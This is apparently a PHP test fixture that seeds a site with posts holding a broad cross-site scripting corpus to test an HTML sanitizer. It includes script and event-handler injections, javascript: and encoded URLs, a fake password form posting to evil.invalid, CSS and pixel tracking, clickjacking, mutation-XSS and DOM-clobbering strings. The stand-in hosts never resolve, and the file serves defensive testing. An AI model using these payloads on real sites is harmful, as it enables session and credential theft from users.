<?php
declare(strict_types=1);

/*
 * Every payload leaves one of two marks for tests: it sets `window.__pwned` to its name, or requests
 * `http://evil.invalid/<name>`. Trackers request `http://tracker.invalid/<name>`. `.invalid` never resolves (RFC
 * 2606).
 */

/** A script that leaves both marks; without spaces and double quotes, so that it fits into any attribute. */
function pwn(string $name): string
{
  return "window.__pwned='$name';fetch('http://evil.invalid/$name')";
}

/** Creates one post for each payload in the category `hostile`, with readable text before and after. */
function make_hostile_posts(array $categories, array $authors, array $pictures): void
{
  $day = 500;
  foreach (hostile_bodies() as $name => $payload) {
    $day += 1;
    make_post([
      'slug' => "hostile-$name",
      'title' => 'Hostile ' . str_replace('-', ' ', $name),
      'content' => paragraph('Before it, this stays readable.') . block('html', $payload)
        . paragraph('After it, this stays readable.'),
      'date' => day($day),
      'author' => $authors['editorial'],
      'categories' => [$categories['hostile']],
      'picture' => $pictures['modern'],
    ]);
  }
}

function hostile_bodies(): array
{
  $p = 'pwn';
  $page = 'data:text/html,' . rawurlencode("<script>{$p('data-html')}</script>");
  $frame = esc_attr("<script>parent.{$p('srcdoc')}</script>");
  $drawing = 'data:image/svg+xml;base64,' . base64_encode(
    "<svg id=\"x\" xmlns=\"http://www.w3.org/2000/svg\"><script>{$p('svg-use')}</script></svg>",
  );
  return [
    'script' => "<script>{$p('script')}</script><script src=\"http://evil.invalid/script-src\"></script>"
      . "<script type=\"module\">{$p('script-module')}</script><SCRIPT/x src=http://evil.invalid/script-upper></SCRIPT>",
    'onerror' => "<img src=\"x\" onerror=\"{$p('onerror')}\"><img/src=\"x\"/onerror=\"{$p('onerror-slash')}\">"
      . "<video><source src=\"x\" onerror=\"{$p('onerror-source')}\"></video><audio src=\"x\" onerror=\"{$p('onerror-audio')}\"></audio>",
    'handlers' => "<body onload=\"{$p('body-onload')}\"><input autofocus onfocus=\"{$p('onfocus')}\">"
      . "<details open ontoggle=\"{$p('ontoggle')}\"><summary>x</summary></details><marquee onstart=\"{$p('onstart')}\">x</marquee>"
      . "<style onload=\"{$p('style-onload')}\"></style><style>@keyframes x{}</style><div onanimationstart=\"{$p('onanimation')}\" style=\"animation:x 1s\">x</div>"
      . "<a href=\"#\" onclick=\"{$p('onclick')}\">Click</a><p onmouseover=\"{$p('onmouseover')}\">Hover</p>",
    'svg' => "<svg onload=\"{$p('svg-onload')}\"><script>{$p('svg-script')}</script>"
      . "<foreignObject><img src=\"x\" onerror=\"{$p('svg-foreign')}\"></foreignObject>"
      . "<animate onbegin=\"{$p('svg-onbegin')}\" attributeName=\"x\" dur=\"1s\"/>"
      . "<a xlink:href=\"javascript:{$p('svg-link')}\"><text y=\"20\">Click</text></a>"
      . "<a><animate attributeName=\"href\" values=\"javascript:{$p('svg-animate')}\"/><text y=\"40\">Click</text></a>"
      . "<use href=\"$drawing#x\"/><image href=\"http://tracker.invalid/svg-image\"/></svg>",
    // Executable addresses.
    'javascript-links' => "<a href=\"javascript:{$p('link')}\">Plain</a><a href=\"JaVaScRiPt:{$p('link-case')}\">Case</a>"
      . "<a href=\" &#1; javascript:{$p('link-control')}\">Control</a><a href=\"java&#10;script:{$p('link-newline')}\">Newline</a>"
      . "<a href=\"&#x6A;avascript&colon;{$p('link-entity')}\">Entity</a><a href=\"vbscript:{$p('link-vb')}\">VB</a>"
      . "<area href=\"javascript:{$p('link-area')}\"><math href=\"javascript:{$p('link-math')}\">Math</math>"
      . "<iframe src=\"javascript:parent.{$p('link-frame')}\"></iframe>",
    'data-html' => "<a href=\"$page\">Link</a><iframe src=\"$page\"></iframe><object data=\"$page\"></object><embed src=\"$page\">",
    // Frames, and navigation of the page.
    'srcdoc' => "<iframe srcdoc=\"$frame\"></iframe><iframe src=\"http://evil.invalid/frame\"></iframe>",
    'object' => '<object data="http://evil.invalid/object" type="text/html"><param name="movie" value="http://evil.invalid/param">'
      . '</object><applet code="http://evil.invalid/applet"></applet>',
    'embed' => '<embed src="http://evil.invalid/embed"><frameset><frame src="http://evil.invalid/frameset"></frameset>'
      . '<portal src="http://evil.invalid/portal"></portal>',
    'form' => '<form action="http://evil.invalid/form" method="post"><label>Password <input type="password" name="password"></label>'
      . "<button>Log in</button><button formaction=\"javascript:{$p('formaction')}\">Go</button>"
      . '<input type="image" src="http://tracker.invalid/input-image"></form><isindex action="http://evil.invalid/isindex">',
    'meta-refresh' => '<meta http-equiv="refresh" content="0;url=http://evil.invalid/meta"><meta charset="utf-7">'
      . '<meta http-equiv="Content-Security-Policy" content="default-src http://evil.invalid"><meta name="referrer" content="unsafe-url">',
    'base' => '<base href="http://evil.invalid/base/" target="_blank"><a href="guide">Relative</a><img src="base-image.png" alt="">',
    'link' => '<link rel="stylesheet" href="http://evil.invalid/link.css"><link rel="preload" as="script" href="http://evil.invalid/preload">'
      . '<link rel="dns-prefetch" href="http://tracker.invalid"><link rel="manifest" href="http://evil.invalid/manifest">'
      . '<link rel="import" href="http://evil.invalid/import">',
    'blank' => '<a href="http://evil.invalid/opener" target="_blank">Opener</a><a href="http://evil.invalid/top" target="_top">Top</a>'
      . '<a href="https://marsa.example/" ping="http://tracker.invalid/ping">Ping</a>',
    'style' => '<style>@import "http://evil.invalid/import.css"; body{display:none} #root{background:url(http://evil.invalid/style)}</style>',
    'style-attribute' => '<p style="background:url(http://tracker.invalid/style-url)">Background</p>'
      . '<p style="background-image:image-set(\'http://tracker.invalid/style-set\' 1x)">Set</p>'
      . '<p style="list-style:\\75rl(http://tracker.invalid/style-escape)">Escape</p>'
      . "<p style=\"width:expression({$p('expression')});behavior:url(http://evil.invalid/behavior)\">Old</p>"
      . '<p style="--a:url(http://tracker.invalid/style-variable);background:var(--a)">Variable</p>',
    'overlay' => '<a href="http://evil.invalid/overlay" style="position:fixed;inset:0;z-index:99999;opacity:0">Overlay</a>',
    // Trackers in everything that loads.
    'trackers' => '<img src="http://tracker.invalid/pixel.gif" width="1" height="1" alt=""><img srcset="http://tracker.invalid/srcset 1x" alt="">'
      . '<picture><source srcset="http://tracker.invalid/picture"><img alt=""></picture><video poster="http://tracker.invalid/poster"></video>'
      . '<audio src="http://tracker.invalid/audio" autoplay></audio><video autoplay><track default src="http://tracker.invalid/track">'
      . '<source src="http://tracker.invalid/video"></video><table background="http://tracker.invalid/table"><tr><td>x</td></tr></table>'
      . '<img data-src="http://tracker.invalid/lazy" alt=""><noscript><img src="http://tracker.invalid/noscript" alt=""></noscript>',
    // Markup that changes its meaning when it is parsed a second time (mutation XSS).
    'mxss-math' => '<math><mtext><table><mglyph><style><!--</style>'
      . "<img title=\"--&gt;&lt;img src=x onerror={$p('mxss-math')}&gt;\"></mglyph></table></mtext></math>"
      . "<form><math><mtext></form><form><mglyph><style></math><img src=\"x\" onerror=\"{$p('mxss-form')}\">",
    'mxss-style' => "<svg></p><style><a id=\"</style><img src=x onerror={$p('mxss-style')}>\"></a></style></svg>"
      . "<xmp><p title=\"</xmp><img src=x onerror={$p('mxss-xmp')}>\"></xmp>",
    'mxss-noscript' => "<noscript><p title=\"</noscript><img src=x onerror={$p('mxss-noscript')}>\"></p></noscript>"
      . "<noembed><p title=\"</noembed><img src=x onerror={$p('mxss-noembed')}>\"></p></noembed>",
    'mxss-template' => "<template><img src=\"x\" onerror=\"{$p('mxss-template')}\"></template><div><template shadowrootmode=\"open\">"
      . "<script>{$p('mxss-shadow')}</script><img src=\"x\" onerror=\"{$p('mxss-shadow-img')}\"></template></div>"
      . "<select><template><img src=\"x\" onerror=\"{$p('mxss-select')}\"></template></select>",
    'mxss-comment' => "<!--><img src=\"x\" onerror=\"{$p('mxss-comment')}\">--><svg><![CDATA[><img src=x onerror=\"{$p('mxss-cdata')}\">]]></svg>"
      . "<textarea><p title=\"</textarea><img src=x onerror={$p('mxss-textarea')}>\"></textarea>"
      . "<title><p title=\"</title><img src=x onerror={$p('mxss-title')}>\"></title>",
    'mxss-depth' => str_repeat('<div>', 600) . "<table><caption><svg><title><table><caption></caption></table><style><!--</style></title></svg>"
      . "<img src=\"x\" onerror=\"{$p('mxss-depth')}\"></caption></table>" . str_repeat('</div>', 600),
    // Names that shadow properties of the document (DOM clobbering).
    'clobbering' => '<div id="root">root</div><form name="body"><input name="parentNode"></form><img name="currentScript" alt="">'
      . '<form id="attributes"><input name="attributes"><input id="innerHTML" name="innerHTML"></form><a id="__pwned" href="#">a</a>'
      . '<a id="defaultView" href="#">b</a><a id="config"></a><a id="config" name="endpoint" href="http://evil.invalid/clobber">c</a>'
      . '<img id="getElementById" name="getElementById" alt=""><p id="main" class="MuiBox-root">p</p><div contenteditable>Edit</div>'
      . '<form id="f"></form><p slot="x" is="x-y" tabindex="99" accesskey="s" autofocus>q</p>',
  ];
}
